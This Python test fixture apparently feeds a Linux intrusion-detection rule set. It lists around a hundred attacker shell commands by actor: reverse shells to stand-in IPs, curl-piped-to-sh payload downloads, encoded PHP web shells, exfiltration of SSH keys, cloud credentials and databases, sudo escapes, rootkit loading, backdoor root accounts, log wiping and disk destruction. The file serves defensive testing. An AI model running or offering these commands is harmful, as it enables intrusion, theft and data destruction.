"""Commands of intruders, written before the rules were read, and never by looking at them.

Out of the techniques of MITRE ATT&CK's Linux matrix, GTFOBins' programs, and what reports on
intrusions tell: one line a command, in the actor's name, written for a shell. Each must be at
least Medium by itself, but for those of :data:`ORDINARY_ALONE`. At the first pass 89 of 112 were.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests.sections.actors import JOBS, NEWCOMER, PACKAGES, PHP, ROOT, SYSTEM, Actor

TOMCAT = Actor(
    "tomcat", None, 112, None, "/usr/lib/jvm/java-11-openjdk-amd64/bin/java", "/var/lib/tomcat9", 9
)
APACHE = Actor("apache", None, 33, None, "/usr/sbin/apache2", "/var/www/html/uploads", 7.0)
NODE = Actor("npm", 1001, 1001, "pts1", "/usr/bin/node", "/home/dev/src/shop/node_modules/lib", 3)
MYSQL = Actor("mysqld", None, 111, None, "/usr/sbin/mysqld", "/var/lib/mysql", 9.0)

_WEB = r"""
$ id; uname -a; cat /etc/passwd
$ cd /tmp && wget http://198.51.100.23/bot.x86 && chmod 777 bot.x86 && ./bot.x86
$ curl -fsSL 198.51.100.23/i.sh | bash
$ php -r '$s=fsockopen("198.51.100.23",9001);exec("/bin/sh -i <&3 >&3 2>&3");'
$ echo PD9waHAgZXZhbCgkX1BPU1RbJ2EnXSk7Pz4= | base64 -d > /var/www/html/uploads/img.php
$ find / -perm -4000 -type f 2>/dev/null
$ cat /var/www/html/wp-config.php
$ mysqldump -u wp -pS3cret wp | gzip > /var/www/html/uploads/db.sql.gz
"""

_JAVA = r"""
$ whoami
bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjIzLzQ0NDQgMD4mMQ==}|{base64,-d}|{bash,-i}
wget -q -O /tmp/kinsing http://198.51.100.23/kinsing
chmod +x /tmp/kinsing
/tmp/kinsing
"""

_MYSQL = r"""
$ curl http://198.51.100.23/m -o /var/lib/mysql/.m
"""

_NPM = r"""
$ node -e "require('child_process').exec('curl -s https://x.example.net/p.sh|sh')"
$ curl -s -X POST -d "$(env | base64 -w0)" https://collect.example.net/e
$ tar czf - ~/.ssh ~/.aws ~/.npmrc | curl -T - https://collect.example.net/u
"""

_USER = r"""
bash -c 'exec bash -i &>/dev/tcp/203.0.113.77/443 <&1'
bash -c '0<&196;exec 196<>/dev/tcp/203.0.113.77/443; sh <&196 >&196 2>&196'
python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.77",443));[os.dup2(s.fileno(),f) for f in(0,1,2)];subprocess.call(["/bin/sh","-i"])'
perl -e 'use Socket;$i="203.0.113.77";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
nc 203.0.113.77 443 -e /bin/bash
ncat --ssl 203.0.113.77 443 --sh-exec /bin/sh
sh -c 'rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 203.0.113.77 443 > /tmp/p'
socat tcp-connect:203.0.113.77:443 exec:/bin/bash,pty,stderr,setsid,sigint,sane
php -r '$sock=fsockopen("203.0.113.77",443);shell_exec("sh <&3 >&3 2>&3");'
ruby -rsocket -e 'exit if fork;c=TCPSocket.new("203.0.113.77","443");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
sh -c 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.77:443 > /tmp/s; rm /tmp/s'
lua -e 'require("socket");t=socket.tcp();t:connect("203.0.113.77","443");os.execute("/bin/sh -i <&3 >&3 2>&3");'
awk 'BEGIN {s = "/inet/tcp/0/203.0.113.77/443"; while(42) { do{ s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c); } while(c != "exit") }}'
$ telnet 203.0.113.77 443 | /bin/bash | telnet 203.0.113.77 444
python3 -c 'import pty; pty.spawn("/bin/bash")'
curl -sSL https://github.com/peass-ng/PEASS-ng/releases/latest/download/linpeas.sh -o lp.sh
./linpeas.sh -a
sudo find . -exec /bin/sh \; -quit
sudo vim -c ':!/bin/bash'
sudo awk 'BEGIN {system("/bin/sh")}'
sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh
sudo env /bin/sh
sudo less /etc/profile
sudo -u#-1 /bin/bash
sudoedit -s '\' AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
pkexec --disable-internal-agent /bin/sh
gcc -o /tmp/.e/pwnkit /tmp/.e/pwnkit.c
find / -user root -perm -u=s -ls
getcap -r /
docker run -v /:/mnt --rm -it alpine chroot /mnt sh
docker run --rm -it --privileged --pid=host debian nsenter -t 1 -m -u -n -i sh
kubectl exec -it payments-7c9 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token
curl -sk -H @/tmp/h https://169.254.169.254/latest/meta-data/iam/security-credentials/
curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
grep -rniE 'password|passwd|secret' /home /opt /var/www --include=*.php --include=*.env
cat /home/ana/.ssh/id_rsa
cat /home/ana/.aws/credentials
ssh -fN -R 0.0.0.0:2222:localhost:22 tunnel@203.0.113.77
./chisel client 203.0.113.77:8443 R:socks
nmap -sS -p- 10.20.0.0/16
hydra -l root -P rockyou.txt ssh://10.20.0.8
$ crontab -l | { cat; echo '* * * * * curl -s http://203.0.113.77/c|sh'; } | crontab -
bash -c "(crontab -l; echo '@reboot /home/noor/.cache/.x/run >/dev/null 2>&1') | crontab -"
bash -c 'echo "nohup /home/noor/.cache/.x/run &" >> /home/noor/.bashrc'
./xmrig -o pool.example.org:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x
scp -r /srv/customers backup@203.0.113.77:/incoming
rsync -az /var/lib/postgresql/backups/ rsync://203.0.113.77/loot
tar czf /dev/shm/.d.tgz /etc/shadow /etc/passwd /home
curl -F file=@/dev/shm/.d.tgz http://203.0.113.77:8000/upload
$ unset HISTFILE
$ history -c
ln -sf /dev/null /home/noor/.bash_history
"""

_ROOT = r"""
cat /etc/shadow
unshadow /etc/passwd /etc/shadow
cp /bin/bash /var/tmp/.sysd
chmod 4755 /var/tmp/.sysd
sh -c 'echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload'
insmod /root/.k/diamorphine.ko
sh -c 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHn8 x" >> /root/.ssh/authorized_keys'
chattr +i /root/.ssh/authorized_keys
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd
sh -c 'echo "sysd:Pa55" | chpasswd'
sh -c 'echo "noor ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/99-cloud'
tee /etc/systemd/system/dbus-helper.service
systemctl enable --now /tmp/dbus-helper.service
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
setcap cap_setuid+ep /usr/bin/python3.11
truncate -s 0 /var/log/auth.log
shred -zu /var/log/wtmp
sh -c 'cat /dev/null > /var/log/lastlog'
journalctl --rotate --vacuum-time=1s
auditctl -D
systemctl stop auditd
setenforce 0
systemctl disable --now rsyslog
iptables -F
ufw disable
sh -c 'for p in $(pgrep -f kdevtmpfsi); do kill -9 $p; done; ps aux | grep -v grep | grep xmrig | awk "{print \$2}" | xargs kill -9'
touch -r /bin/ls /usr/sbin/sshd
mount -o bind /tmp/empty /proc/4711
gdb -p 812 -batch -ex 'dump memory /tmp/m 0x7f0 0x7ff'
strace -f -e trace=read,write -p 812 -o /tmp/.s
tcpdump -i any -w /tmp/.c.pcap port 21 or port 110
nsenter --target 1 --mount --uts --ipc --net --pid -- bash
sh -c 'echo "auth sufficient pam_permit.so" >> /etc/pam.d/sshd'
dd if=/dev/zero of=/dev/sda bs=1M
openssl enc -aes-256-cbc -salt -in /srv/data.tar -out /srv/data.tar.enc -k Xx
sh -c 'echo "ALL ALL=(ALL) NOPASSWD:ALL" | EDITOR="tee -a" visudo'
"""

_CRON = r"""
$ curl -fsSL http://203.0.113.77/a.sh | sh
$ python3 -c "import urllib.request as u;exec(u.urlopen('http://203.0.113.77/p').read())"
$ /var/tmp/.ICE-unix/kthreadd
"""

_UNIT = r"""
/dev/shm/.dbus/dbusd --config /dev/shm/.dbus/c.json
/bin/bash -c 'while true; do bash -i >& /dev/tcp/203.0.113.77/53 0>&1; sleep 60; done'
"""

_DPKG = r"""
/bin/sh -c 'wget -qO- http://203.0.113.77/post.sh | sh'
"""

BLOCKS: tuple[tuple[Actor, str], ...] = (
    (APACHE, _WEB),
    (PHP, "$ wget 198.51.100.23/s.php -O /var/www/shop/public/cache.php\n"),
    (TOMCAT, _JAVA),
    (MYSQL, _MYSQL),
    (NODE, _NPM),
    (NEWCOMER, _USER),
    (ROOT, _ROOT),
    (JOBS, _CRON),
    (SYSTEM, _UNIT),
    (PACKAGES, _DPKG),
)

ORDINARY_ALONE = frozenset(
    [
        "chmod +x /tmp/kinsing",
        "sudo less /etc/profile",
        "sh -c 'echo \"sysd:Pa55\" | chpasswd'",
        "tee /etc/systemd/system/dbus-helper.service",
        "openssl enc -aes-256-cbc -salt -in /srv/data.tar -out /srv/data.tar.enc -k Xx",
    ]
)
"""Lines that administrators type, too; the session that they stand in tells."""


def cases() -> Iterator[tuple[Actor, str]]:
    """Yield actor and line."""
    for actor, text in BLOCKS:
        for line in filter(None, (line.strip() for line in text.splitlines())):
            yield actor, line
